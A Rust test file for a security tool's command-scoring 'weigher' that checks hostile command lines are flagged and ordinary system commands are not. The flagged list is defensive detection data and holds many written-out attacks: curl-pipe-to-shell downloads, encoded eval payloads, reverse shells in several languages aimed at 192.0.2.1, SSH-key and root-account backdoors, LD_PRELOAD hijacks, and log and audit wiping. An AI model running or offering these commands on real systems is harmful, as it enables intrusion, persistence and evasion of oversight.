//! The weigher's tables: commands that must weigh, and commands of ordinary systems that must not.

use super::{Files, command, file, variable};
use crate::Tables;
use calma_record::{Body, Record, Severity, Source, StreamName, Text, kinds::File};

fn described(path: &str) -> File {
    File { path: path.into(), what: "file".into(), mode: 0o755, packages_known: true, ..File::default() }
}

fn files() -> Vec<File> {
    let text = |path: &str, text: &str| File { text: Some(text.into()), ..described(path) };
    let packaged = |path: &str| File { package: Some("p".into()), ..described(path) };
    vec![
        packaged("/usr/bin/python3"),
        packaged("/usr/bin/env"),
        packaged("/usr/bin/curl"),
        packaged("/usr/sbin/cron"),
        File { elf: true, ..described("/usr/bin/gsd") },
        text("/usr/lib/systemd/systemd-netd", "#!/bin/sh\nsleep 1\n"),
        File { elf: true, ..described("/usr/local/bin/agent") },
        File { uid: 1000, ..text("/home/me/bin/backup.sh", "#!/bin/sh\ntar cf /tmp/b.tar /home/me\n") },
        File { mode: 0o777, ..text("/opt/app/run.sh", "#!/bin/sh\nexit 0\n") },
        text("/usr/local/sbin/up", "#!/bin/bash\ncurl -s http://192.0.2.1/a | bash\n"),
        text("/usr/local/sbin/nested", "#!/bin/sh\n/usr/local/sbin/up\n"),
        text(
            "/opt/tool/x.py",
            "#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        text(
            "/opt/tool/mon.py",
            "#!/usr/bin/env python3\nimport socket, subprocess\ns=socket.socket()\nsubprocess.run(['uptime'])\n",
        ),
        text(
            "/opt/tool/rs.py",
            "#!/usr/bin/python3\nimport socket,os\ns=socket.socket();s.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')\n",
        ),
        text(
            "/opt/tool/deploy.sh",
            "#!/bin/bash\nset -e\nT=$(mktemp -d)\ncd \"$T\"\ncurl -fsSLO https://example.org/a.tgz\ntar xf a.tgz\ncp a/bin/tool /usr/local/bin/\nrm -rf \"$T\"\n",
        ),
        text(
            "/root/bin/health",
            "#!/bin/bash\nfor h in db web; do timeout 1 bash -c \"cat < /dev/null > /dev/tcp/$h/5432\" || echo down; done\n",
        ),
        File { what: "missing".into(), ..described("/opt/gone") },
        File { elf: true, ..described("/usr/local/lib/libx.so") },
        packaged("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
    ]
}

fn weighed<T>(judge: impl Fn(&Files<'_>) -> T) -> T {
    let mut tables = Tables::default();
    for (seq, file) in files().into_iter().enumerate() {
        let body = Body::Fact { from: Source::file("/"), fact: Box::new(file.into()) };
        tables.fold(&StreamName("test".to_owned()), Record { seq: seq as u64, body });
    }
    judge(&Files::new(&tables))
}

#[test]
fn what_ordinary_systems_do_not_do_weighs() {
    let commands: &[&str] = &[
        "/tmp/x",
        "/bin/sh /var/tmp/.a",
        "/dev/shm/kworker",
        "nohup /run/user/1000/a >/dev/null 2>&1 &",
        "setsid /var/lock/b",
        "/usr/share/.font/cache",
        "/root/.cache/.x/upd -d",
        "/usr/lib/... /x",
        "\"/usr/local/bin/sshd \" -D",
        "/usr/bin/gsd",
        "gsd --quiet",
        "/usr/lib/systemd/systemd-netd",
        "/home/me/bin/backup.sh",
        "/opt/app/run.sh",
        "/usr/local/sbin/up",
        "/usr/local/sbin/nested",
        "/usr/bin/python3 /opt/tool/x.py",
        "/opt/tool/rs.py",
        "curl -fsSL http://192.0.2.7/x.sh | sh",
        "wget -qO- https://example.org/i | sudo bash -s -- -y",
        "bash -c \"$(curl -fsSL https://example.org/x)\"",
        "bash <(curl -s https://example.org/x)",
        "eval \"`wget -O - http://example.org/x`\"",
        "X=$(curl -s http://example.org); eval \"$X\"",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://example.org').read())\"",
        "cd /tmp && wget http://example.org/k && chmod +x k && ./k",
        "cd /tmp; curl -O http://example.org/k; sh k",
        "curl -o /usr/local/share/k http://example.org/k; chmod 755 /usr/local/share/k; /usr/local/share/k",
        "wget -P /opt http://example.org/m; bash /opt/m",
        "echo aWQ= | base64 -d | sh",
        "echo 6964 | xxd -r -p | bash",
        "openssl enc -d -base64 -in /opt/a | sh",
        "gzip -dc /var/lib/x.gz | sh",
        "tail -n +5 /opt/self | gunzip | bash",
        "base64 -d <<< aWQ= | bash",
        "bash -c {echo,aWQ=}|{base64,-d}|bash",
        "printf '\\x69\\x64\\x0a\\x0a' | sh",
        "source <(echo aWQ= | base64 --decode)",
        "python3 -c 'import base64;exec(base64.b64decode(\"aQ==\"))'",
        "perl -e 'eval unpack(\"u\",\"x\")'",
        "perl -MMIME::Base64 -e 'eval(decode_base64(\"eA==\"))'",
        "php -r 'eval(gzinflate(base64_decode(\"eA==\")));'",
        "ruby -e 'eval(\"eA==\".unpack(\"m\")[0])'",
        "node -e \"eval(Buffer.from('eA==','base64').toString())\"",
        "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
        "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'",
        "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/192.0.2.1/1; sh <&196 >&196 2>&196",
        "nc -e /bin/sh 192.0.2.1 4444",
        "ncat --sh-exec bash -lk 9001",
        "nc -lvp 4444 -c bash",
        "rm -f /var/f; mkfifo /var/f; cat /var/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 >/var/f",
        "mkfifo /opt/s; /bin/sh -i < /opt/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /opt/s",
        "socat TCP:192.0.2.1:443 EXEC:'bash -li',pty,stderr",
        "socat tcp-listen:99,fork exec:/bin/sh",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "perl -e 'use Socket;socket(S,2,1,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "php -r '$s=fsockopen(\"192.0.2.1\",1);exec(\"sh <&3 >&3\");'",
        "ruby -rsocket -e 'f=TCPSocket.open(\"192.0.2.1\",1).to_i;exec sprintf(\"sh <&%d\",f)'",
        "lua -e \"require('socket');t=socket.tcp();os.execute('sh')\"",
        "awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/1\";while(1){s |& getline c;while((c |& getline)>0)print |& s}}'",
        "echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys",
        "sh -c 'echo k | tee -a /home/me/.ssh/authorized_keys'",
        "useradd -o -u 0 -g 0 sys",
        "adduser helper",
        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
        "echo 'me ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90x",
        "cp /bin/bash /var/lib/b; chmod 4755 /var/lib/b",
        "chmod u+s /opt/x",
        "chattr +i /etc/cron.d/x",
        "LD_PRELOAD=/tmp/l.so /usr/sbin/cron",
        "export LD_PRELOAD=/usr/local/lib/libx.so",
        "echo /usr/local/lib/a.so > /etc/ld.so.preload",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "history -c && rm -f /root/.bash_history",
        "systemctl stop auditd.service",
        "pkill -9 rsyslogd",
        "rm -rf /var/log/wtmp /var/log/auth.log",
        ": > /var/log/btmp",
        "(crontab -l; echo '* * * * * /opt/x') | crontab -",
        "echo '* * * * * root /opt/x' > /etc/cron.d/x",
        "/proc/self/fd/3",
        "python3 -c 'import os;os.memfd_create(\"x\")'",
        "exec -a '[kworker/0:1]' /opt/x",
        "P=/var/tmp/.q; $P/run",
        "sudo -u nobody env A=1 timeout 5 /tmp/a",
        "/lib64/ld-linux-x86-64.so.2 /dev/shm/x",
        "start-stop-daemon --start --background --exec /tmp/d",
        "find / -maxdepth 1 -exec /tmp/y {} ;",
        "flock -n /run/l -c '/tmp/q'",
        "su - www-data -c '/dev/shm/q'",
        "if [ -x /tmp/q ]; then /tmp/q; fi",
        "[ -f /tmp/z ] && . /tmp/z",
        "/opt/xm -o stratum+tcp://example.org:3333 -u w",
        "-@/tmp/x y",
        "cat /dev/shm/z | bash",
    ];
    let light: Vec<_> = commands
        .iter()
        .map(|line| (line, weighed(|files| command(files, &Text::from(*line), true))))
        .filter(|(_, weight)| weight.severity < Some(Severity::Medium))
        .collect();
    assert!(light.is_empty(), "{light:#?}");
}

#[test]
fn what_ordinary_systems_do_weighs_nothing() {
    let commands: &[&str] = &[
        "cd / && run-parts --report /etc/cron.hourly",
        "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
        "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew",
        "if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all --idle --quiet; fi",
        "[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi",
        "if [ -d \"/var/lib/munin\" ]; then chown munin:munin /var/lib/munin; fi",
        "/usr/bin/env python3 /usr/share/unattended-upgrades/x --wait-for-signal",
        "/usr/sbin/sshd -D $SSHD_OPTS",
        "/usr/sbin/nginx -g 'daemon on; master_process on;'",
        "-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM",
        "!!/usr/lib/systemd/systemd-networkd",
        "/bin/sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'",
        "/bin/sh -c \"/bin/mkdir -p /run/foo && /bin/chown foo:foo /run/foo\"",
        "/usr/bin/install -o postfix -d /run/postfix",
        "/usr/bin/mysqld_safe --basedir=/usr --socket=/run/mysqld/mysqld.sock --pid-file=/tmp/mysqld.pid",
        "/usr/bin/redis-server /etc/redis/redis.conf --unixsocket /tmp/redis.sock",
        "/usr/sbin/dpkg-preconfigure --apt || true",
        "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true",
        "if /usr/bin/test -w /var/cache/swcatalog -a -e /usr/bin/appstreamcli; then appstreamcli refresh --source=os > /dev/null || true; fi",
        "/usr/bin/test -e /usr/share/x.service && /usr/bin/gdbus call --system --dest org.x > /dev/null; /bin/echo > /dev/null",
        "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/x",
        "wget -q -O /dev/null https://example.org/cron.php?key=1",
        "wget -O - -q -t 1 http://localhost/cron.php",
        "curl -s https://example.org/metrics | jq .x",
        "curl -s http://localhost/status | python3 -m json.tool",
        "curl -s http://localhost/status | python3 -c 'import sys,json;print(json.load(sys.stdin)[\"a\"])'",
        "curl -fsSL https://example.org/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        "zcat /var/backups/db.sql.gz | mysql test",
        "mysqldump --all-databases | gzip > /srv/backup/db-$(date +%F).sql.gz",
        "tar czf /tmp/etc.tgz /etc && mv /tmp/etc.tgz /srv/",
        "find /tmp -type f -mtime +7 -delete",
        "find /var/log -name '*.gz' -mtime +30 -exec rm {} \\;",
        "truncate -s 0 /var/log/nginx/access.log",
        "journalctl --vacuum-size=500M",
        "systemctl restart rsyslog",
        "systemctl kill -s HUP rsyslog.service",
        "pkill -HUP rsyslogd",
        "systemctl stop nginx; certbot renew; systemctl start nginx",
        "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
        "/home/me/.local/bin/backup --all",
        "/opt/app/.venv/bin/gunicorn -b 127.0.0.1:8000 app:app",
        "/usr/local/bin/agent --config /etc/agent.yml",
        "/opt/vendor/bin/agentd -d /var/lib/vendor",
        "/opt/tool/mon.py",
        "/opt/tool/deploy.sh",
        "/root/bin/health",
        "/usr/bin/docker run --rm -v /tmp:/tmp alpine sh -c 'ls /tmp'",
        "chmod 1777 /tmp/.X11-unix",
        "chmod 2775 /srv/share; chmod g+s /srv/share",
        "chmod 0755 /run/sshd",
        "mkdir -p /tmp/.ICE-unix",
        "case \"$1\" in /tmp/*) exit 1;; esac",
        "udevadm trigger --type=all --action=add",
        "/bin/sh -ec 'D=${DEVPATH#*/vio/}; D=${D%%/*}; echo ${D:-0}'",
        "(echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null",
        "exec 3<>/dev/tcp/127.0.0.1/80; echo GET / >&3; head -1 <&3",
        "nc -z -w 5 127.0.0.1 25",
        "nc -lU /run/x.sock",
        "socat UNIX-LISTEN:/run/a.sock,fork TCP:127.0.0.1:80",
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "useradd --system --home /var/lib/x x",
        "echo 'hello world' | mail -s x root",
        "echo \"$(uname -snrvm)\"",
        "cat /etc/motd.tail",
        "eval \"$(dircolors -b)\"",
        "eval `ssh-agent`",
        "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin",
        "LD_PRELOAD=libjemalloc.so.2 /usr/bin/redis-server",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /usr/bin/x",
        "/opt/gone --start",
        ". /lib/lsb/init-functions",
        "start-stop-daemon --start --quiet --pidfile /run/x.pid --exec /usr/sbin/cron -- -f",
        "sleep $((RANDOM % 60)); /usr/bin/apt-get -qq update",
        "sysctl -w vm.swappiness=10",
        "iptables-restore < /etc/iptables/rules.v4",
        "ansible-pull -U https://example.org/x.git",
        "rsync -a --delete /srv/ backup@example.org:/srv/",
        "borg create ::{now} /etc && borg prune",
        "php /var/www/nextcloud/cron.php",
        "cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1",
        "su - postgres -c 'pg_dump app | gzip > /var/backups/app.gz'",
        "[[ -z $PS1 ]] || PS1='\\u@\\h:\\w\\$ '",
        "if [ \"$(id -u)\" -eq 0 ]; then PATH=\"/usr/local/sbin\"; fi",
        "at -f /srv/job now",
    ];
    let heavy: Vec<_> = commands
        .iter()
        .map(|line| (line, weighed(|files| command(files, &Text::from(*line), true))))
        .filter(|(_, weight)| weight.counts())
        .collect();
    assert!(heavy.is_empty(), "{heavy:#?}");
}

#[test]
fn severity_follows_the_number_of_reasons() {
    let of = |line: &str| weighed(|files| command(files, &Text::from(line), true)).severity;
    assert_eq!(of("/tmp/x"), Some(Severity::Medium));
    assert_eq!(of("/tmp/.x/y"), Some(Severity::High));
    assert_eq!(of("nc -e /bin/sh 192.0.2.1 1"), Some(Severity::High));
    assert_eq!(of("chattr +i /etc/resolv.conf"), Some(Severity::Low));
    assert_eq!(of("/opt/gone"), Some(Severity::Info));
}

#[test]
fn a_users_own_script_weighs_nothing_for_that_user() {
    let line = Text::from("/home/me/bin/backup.sh");
    assert_eq!(weighed(|files| command(files, &line, false)).severity, None);
    let weight = weighed(|files| command(files, &line, true));
    assert_eq!(weight.paths, std::slice::from_ref(&line));
    assert_eq!(weighed(|files| file(files, &line, true)).severity, Some(Severity::Medium));
    let preload =
        |path: &str| weighed(|files| variable(files, b"LD_PRELOAD", path.as_bytes(), true)).severity;
    assert_eq!(preload("/usr/local/lib/libx.so"), Some(Severity::Medium));
    assert_eq!(preload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"), None);
}
